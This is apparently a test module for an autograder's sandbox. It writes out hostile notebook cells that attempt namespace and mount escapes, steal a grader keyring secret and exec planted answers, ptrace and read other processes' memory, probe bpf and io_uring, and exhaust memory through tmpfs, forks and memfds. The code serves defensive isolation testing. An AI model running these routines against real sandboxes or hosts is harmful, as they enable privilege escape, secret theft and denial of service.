"""Attacks through the kernel: nested namespaces, mounts, keyrings, ptrace, bpf, memory outside RLIMIT_AS.

`build(ctx)` adds them to the one batch that `conftest.batch` grades (see tests/attacks/__init__.py).
Each hostile cell is added to the reference notebook (full marks honestly) or to the untouched
learner notebook (nothing honestly); it runs at load (`_ = f()`) and reports what it got in a
load note (`KERNEL-...`), so the tests can see both the score and why. The expected score is
always that of the honest part: an attack that fails harmlessly changes nothing, and one that
runs out of memory costs only its own worker.
"""

from __future__ import annotations

import ctypes

from autograder.isolation import seccomp
from conftest import add_cell, learner_notebook, reference_notebook

KEY = "03_qkv"
MARKER = "kernel-attack-marker-4b1d"
KEY_NAME = "autograder-answers"
GRADER_KEY_NAME = "grader-session-secret"
GRADER_SECRET = "GRADER-KEYRING-SECRET-8812"
NR = seccomp.TABLES.get(seccomp.host_arch() or 0, seccomp.X86_64)

# The first lines of every attack: raw system calls through ctypes, and the report as a load note.
PRELUDE = '''
import ctypes, errno, os, subprocess, sys, time
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
NR = __NR__
def _sys(name, *args):
    ctypes.set_errno(0)
    r = _libc.syscall(ctypes.c_long(NR[name] if isinstance(name, str) else name),
                      *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return r if r >= 0 else -ctypes.get_errno()
def _name(r):
    return "ok" if r >= 0 else errno.errorcode.get(-r, str(-r))
def _cmd(*argv):
    try:
        p = subprocess.run(list(argv), capture_output=True, text=True, timeout=120)
    except Exception as e:
        return type(e).__name__
    return f"rc{p.returncode}:{(p.stdout + p.stderr).strip()[-50:]}"
'''

USERNS_TMPFS_FILL = '''
def _escape():
    res = []
    outer = os.getuid()
    # a user + mount namespace of our own, root in it, a 6 GiB tmpfs, filled
    r = _libc.unshare(0x10000000 | 0x20000)
    res.append("unshare=" + _name(r if r == 0 else -ctypes.get_errno()))
    if r == 0:
        for f, v in (("setgroups", "deny"), ("uid_map", f"0 {outer} 1"), ("gid_map", f"0 {outer} 1")):
            try:
                open(f"/proc/self/{f}", "w").write(v)
            except OSError:
                pass
        os.makedirs("/tmp/big", exist_ok=True)
        if _libc.mount(b"none", b"/tmp/big", b"tmpfs", 0, b"size=6g") == 0:
            with open("/tmp/big/fill", "wb") as f:
                for _ in range(6 * 1024):
                    f.write(b"\\1" * 2**20)
            res.append("MOUNTED-AND-FILLED")
    # the same with the unshare command: -U user, -r map to root, -m mount namespace
    res.append("cmd=" + _cmd("unshare", "-Urm", "sh", "-c",
                             "mount -t tmpfs -o size=6g none /tmp && head -c 6442450944 /dev/zero > /tmp/f && echo ESCAPED"))
    if hasattr(os, "unshare"):
        try:
            os.unshare(os.CLONE_NEWUSER | os.CLONE_NEWNS)
            res.append("os.unshare=ESCAPED")
        except OSError as e:
            res.append("os.unshare=" + errno.errorcode.get(e.errno, str(e.errno)))
    return res
_res = _escape()
def _report():
    raise ValueError("KERNEL-USERNS " + " ".join(_res))
_ = _report()
'''

UNSHARE_CTYPES = '''
def _unshare_all():
    res = []
    flags = {"user": 0x10000000, "mnt": 0x20000, "pid": 0x20000000, "net": 0x40000000, "ipc": 0x08000000,
             "uts": 0x04000000, "cgroup": 0x02000000, "time": 0x80}
    for n, flag in flags.items():
        res.append(f"{n}=" + _name(_sys("unshare", flag)))
    fd = os.open("/proc/self/ns/mnt", os.O_RDONLY)
    res.append("setns=" + _name(_sys("setns", fd, 0)))
    res.append("fsopen=" + _name(_sys("fsopen", b"tmpfs", 0)))
    res.append("open_tree=" + _name(_sys("open_tree", -100, b"/usr", 1)))
    os.makedirs("/tmp/m", exist_ok=True)
    res.append("mount=" + _name(_sys("mount", b"none", b"/tmp/m", b"tmpfs", 0, None)))
    res.append("chroot=" + _name(_sys("chroot", b"/tmp")))
    return res
_res = _unshare_all()
def _report():
    raise ValueError("KERNEL-UNSHARE " + " ".join(_res))
_ = _report()
'''

CLONE_NEWUSER = '''
def _clone(flags):
    # a raw clone (no new stack: it returns twice, like fork); the child would mount and exit
    r = _libc.syscall(ctypes.c_long(NR["clone"]), ctypes.c_long(flags | 17), ctypes.c_long(0), ctypes.c_long(0),
                      ctypes.c_long(0), ctypes.c_long(0))
    if r == 0:
        os.makedirs("/tmp/c", exist_ok=True)
        ok = _libc.mount(b"none", b"/tmp/c", b"tmpfs", 0, None) == 0
        os._exit(42 if ok else 43)
    if r > 0:
        return "CLONED-exit%d" % (os.waitpid(r, 0)[1] >> 8)
    return _name(-ctypes.get_errno())
def _clone3(flags):
    args = (ctypes.c_uint64 * 11)(flags, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
    r = _sys("clone3", ctypes.byref(args), ctypes.sizeof(args))
    if r == 0:
        os._exit(0)
    return "CLONED" if r > 0 else _name(r)
_res = ["clone_user=" + _clone(0x10000000), "clone_user_ns=" + _clone(0x10000000 | 0x20000),
        "clone_pid=" + _clone(0x20000000), "clone_net=" + _clone(0x40000000),
        "clone3_user=" + _clone3(0x10000000), "clone3_plain=" + _clone3(0)]
def _report():
    raise ValueError("KERNEL-CLONE " + " ".join(_res))
_ = _report()
'''

KEYRING_PLANT = '''
_PAYLOAD = __PAYLOAD__
def _plant():
    res = []
    for ring, label in ((-4, "user"), (-3, "session"), (-5, "usersession")):
        k = _sys("add_key", b"user", b"__KEY__", _PAYLOAD.encode(), len(_PAYLOAD), ring)
        res.append(f"add_key@{label}=" + _name(k))
        if k > 0:
            _sys("keyctl", 5, k, 0x3F3F3F3F)  # KEYCTL_SETPERM: everyone may read it
    p = _sys("keyctl", 22, -1, -4)  # KEYCTL_GET_PERSISTENT: a keyring that outlives the process
    res.append("persistent=" + _name(p))
    res.append("request_key=" + _name(_sys("request_key", b"user", b"__KEY__", None, 0)))
    return res
_res = _plant()
def _report():
    raise ValueError("KERNEL-PLANT " + " ".join(_res))
_ = _report()
'''

KEYRING_STEAL = '''
def _steal():
    res = []
    buf = ctypes.create_string_buffer(65536)
    for name in (b"__KEY__", b"__GRADER_KEY__"):
        for ring, label in ((-3, "session"), (-4, "user"), (-5, "usersession")):
            k = _sys("keyctl", 10, ring, b"user", name, 0)  # KEYCTL_SEARCH
            if k <= 0:
                res.append(f"search@{label}=" + _name(k))
                continue
            n = _sys("keyctl", 11, k, buf, 65536)  # KEYCTL_READ
            data = buf.raw[:max(n, 0)].decode(errors="replace")
            res.append(f"FOUND@{label}:" + data[:40])
            if name == b"__KEY__":
                exec(data, globals())  # the planted answers become ours
    try:
        res.append("proc_keys=" + repr(open("/proc/keys").read()[:80]))
    except OSError as e:
        res.append("proc_keys=" + type(e).__name__)
    return res
_res = _steal()
def _report():
    raise ValueError("KERNEL-STEAL " + " ".join(_res))
_ = _report()
'''

PTRACE = '''
def _trace():
    res = []
    target = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", "__MARKER__"],
                              start_new_session=True)
    time.sleep(0.2)
    res.append("attach=" + _name(_sys("ptrace", 16, target.pid, 0, 0)))       # PTRACE_ATTACH
    res.append("seize=" + _name(_sys("ptrace", 0x4206, target.pid, 0, 0)))    # PTRACE_SEIZE
    res.append("attach_init=" + _name(_sys("ptrace", 16, 1, 0, 0)))
    buf = ctypes.create_string_buffer(64)
    iov = (ctypes.c_void_p * 2)(ctypes.cast(buf, ctypes.c_void_p), 64)
    res.append("vm_readv=" + _name(_sys("process_vm_readv", target.pid, iov, 1, iov, 1, 0)))
    res.append("kcmp=" + _name(_sys("kcmp", os.getpid(), target.pid, 0, 0, 0)))
    pid = os.fork()
    if pid == 0:
        os._exit(3 if _sys("ptrace", 0, 0, 0, 0) >= 0 else 4)  # PTRACE_TRACEME
    res.append("traceme_exit=%d" % (os.waitpid(pid, 0)[1] >> 8))
    try:
        res.append("mem=" + repr(open(f"/proc/{target.pid}/mem", "rb").read(8)))
    except OSError as e:
        res.append("mem=" + type(e).__name__)
    target.kill()
    target.wait()
    return res
_res = _trace()
def _report():
    raise ValueError("KERNEL-PTRACE " + " ".join(_res))
_ = _report()
'''

BPF_PERF = '''
def _surface():
    attr = ctypes.create_string_buffer(128)
    res = ["bpf=" + _name(_sys("bpf", 0, attr, 72)),                     # BPF_MAP_CREATE
           "perf=" + _name(_sys("perf_event_open", attr, 0, -1, -1, 0)),
           "userfaultfd=" + _name(_sys("userfaultfd", 0)),
           "io_uring=" + _name(_sys("io_uring_setup", 1, attr)),
           "personality=" + _name(_sys("personality", 0x0040000)),       # ADDR_NO_RANDOMIZE
           "syslog=" + _name(_sys("syslog", 3, attr, 64)),
           "settime=" + _name(_sys("clock_settime", 0, attr))]
    if "iopl" in NR:
        res.append("iopl=" + _name(_sys("iopl", 3)))
    return res
_res = _surface()
def _report():
    raise ValueError("KERNEL-BPF " + " ".join(_res))
_ = _report()
'''

# Memory that RLIMIT_AS (per process, virtual) does not see: tmpfs, and several processes.
FORK_HOG = '''
def _fill(folder):
    n = 0
    try:
        while n < 64:
            with open(f"{folder}/f{n}", "wb") as f:
                for _ in range(8):
                    f.write(b"\\1" * 2**20)
            n += 1
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
    return "full"
def _hog():
    res = ["tmp=" + _fill("/tmp"), "shm=" + _fill("/dev/shm")]
    pids = []
    for _ in range(6):  # 6 x 1 GiB: each under the 4 GiB address space, together over the cgroup's 4 GiB
        pid = os.fork()
        if pid == 0:
            chunks = [bytearray(2**28) for _ in range(4)]
            time.sleep(4)
            os._exit(0)
        pids.append(pid)
    sigs = [os.waitpid(p, 0)[1] & 0x7F for p in pids]
    res.append("killed=%d/6" % sum(s == 9 for s in sigs))
    return res
_res = _hog()
def _report():
    raise ValueError("KERNEL-HOG " + " ".join(_res))
_ = _report()
'''

# memfds are tmpfs files outside any mount's size= and, unmapped, outside RLIMIT_AS: each
# process may hold its open-files limit of them, each as large as the file-size limit (256 x
# 16 MiB = 4 GiB), and there may be dozens of processes. In causal_mask: that part fails either
# way (the learner's own code raises, or its worker is killed); nothing else may.
MEMFD_HOG = '''
_honest_causal_mask = causal_mask
def _memfd_child():
    fds = []
    try:
        for i in range(240):
            fd = os.memfd_create("hog")
            os.write(fd, b"\\1" * 2**24)
            fds.append(fd)
    except OSError:
        pass
    time.sleep(3)
    os._exit(0)
def causal_mask(size, device=None):
    pids = []
    for _ in range(3):
        pid = os.fork()
        if pid == 0:
            _memfd_child()
        pids.append(pid)
    sigs = [os.waitpid(p, 0)[1] & 0x7F for p in pids]
    raise ValueError("KERNEL-MEMFD killed=%d/3" % sum(s == 9 for s in sigs))
'''

HONEST_THREADS = '''
import threading, concurrent.futures, multiprocessing, subprocess, sys, os
import matplotlib
matplotlib.use("Agg")
import matplotlib.pyplot as plt
import torch
def _work():
    done = []
    ts = [threading.Thread(target=lambda i=i: done.append(i)) for i in range(4)]
    [t.start() for t in ts]
    [t.join() for t in ts]
    with concurrent.futures.ThreadPoolExecutor(4) as ex:
        squares = list(ex.map(lambda x: x * x, range(8)))
    torch.set_num_threads(2)
    a = torch.ones(256, 256)
    total = float((a @ a).sum())
    torch.set_num_threads(1)
    out = subprocess.run([sys.executable, "-c", "print(6 * 7)"], capture_output=True, text=True, timeout=60).stdout
    pid = os.fork()
    if pid == 0:
        os._exit(5)
    forked = os.waitpid(pid, 0)[1] >> 8
    with multiprocessing.get_context("fork").Pool(2) as pool:
        pooled = pool.map(abs, [-1, -2, -3])
    fig, ax = plt.subplots()
    ax.plot([0, 1], [1, 0])
    fig.savefig("/tmp/plot.png")
    ok = (sorted(done) == [0, 1, 2, 3] and squares[-1] == 49 and total == 256.0 ** 3 and out.strip() == "42"
          and forked == 5 and pooled == [1, 2, 3] and os.path.getsize("/tmp/plot.png") > 0)
    return ok, f"threads={sorted(done)} pool={pooled} sub={out.strip()} fork={forked} sum={total}"
_ok, _what = _work()
_honest_softmax = softmax
def _broken(x, axis=-1):
    raise ValueError("honest work failed in the sandbox: " + _what)
softmax = _honest_softmax if _ok else _broken
'''


def _src(template: str, **kw) -> str:
    """PRELUDE + the template, with __NAME__ replaced by the repr of kw["name"] (strings as they are)."""
    text = PRELUDE.replace("__NR__", repr(NR)) + template
    for k, v in kw.items():
        text = text.replace(f"__{k.upper()}__", repr(v) if k == "payload" else str(v))
    return text


def _ref():
    return reference_notebook(KEY)


def _stub():
    return learner_notebook(KEY)


def _answers() -> str:
    """The reference's answer cells: what the planter offers through the keyring."""
    nb = _ref()
    return "\n".join(c.source for c in nb.cells if c.cell_type == "code"
                     and (c.metadata.get("nbgrader") or {}).get("solution"))


def _grader_keyring(ctx) -> None:
    """Run the grading (a child of this process) inside a session keyring holding a secret key, as a
    grader started from a login session does; revoke the key afterwards."""
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        L = ctypes.c_long
        if libc.syscall(L(NR["keyctl"]), L(1), ctypes.c_char_p(b"autograder-batch")) < 0:  # JOIN_SESSION_KEYRING
            return
        secret = GRADER_SECRET.encode()
        key = libc.syscall(L(NR["add_key"]), ctypes.c_char_p(b"user"), ctypes.c_char_p(GRADER_KEY_NAME.encode()),
                           ctypes.c_char_p(secret), L(len(secret)), L(-3))
    except (OSError, AttributeError):
        return
    if key > 0:
        ctx.extra["grader_key"] = key
        ctx.cleanups.append(lambda: libc.syscall(L(NR["keyctl"]), L(3), L(key)))  # KEYCTL_REVOKE


def _memory_cgroup_available() -> bool:
    from autograder.isolation.cgroups import MemoryCgroups

    cg, _ = MemoryCgroups.find(2**30)
    return cg is not None


def build(ctx) -> None:
    """The kernel-facing attacks, and an honest notebook that uses threads and processes."""
    nbs = ctx.nbs
    _grader_keyring(ctx)
    nbs["kernel_userns_tmpfs_fill"] = add_cell(_ref(), _src(USERNS_TMPFS_FILL))
    nbs["kernel_unshare_ctypes"] = add_cell(_ref(), _src(UNSHARE_CTYPES))
    nbs["kernel_clone_newuser"] = add_cell(_ref(), _src(CLONE_NEWUSER))
    # graded in name order: a plants, b (stub answers) looks for them
    nbs["kernel_keyring_a_plant"] = add_cell(_ref(), _src(KEYRING_PLANT, payload=_answers(), key=KEY_NAME))
    nbs["kernel_keyring_b_steal"] = add_cell(_stub(), _src(KEYRING_STEAL, key=KEY_NAME, grader_key=GRADER_KEY_NAME))
    nbs["kernel_ptrace"] = add_cell(_ref(), _src(PTRACE, marker=MARKER))
    nbs["kernel_bpf_perf"] = add_cell(_ref(), _src(BPF_PERF))
    nbs["kernel_honest_threads_subprocess"] = add_cell(_ref(), HONEST_THREADS)
    # Without a memory cgroup these two would take ~5 GiB of the host's memory (the hole they show):
    # add them only where the grader can confine them.
    ctx.extra["kernel_cgroup"] = _memory_cgroup_available()
    if ctx.extra["kernel_cgroup"]:
        nbs["kernel_fork_tmpfs_hog"] = add_cell(_ref(), _src(FORK_HOG))
        nbs["kernel_memfd_hog"] = add_cell(_ref(), _src(MEMFD_HOG))
    ctx.extra["kernel_marker"] = MARKER
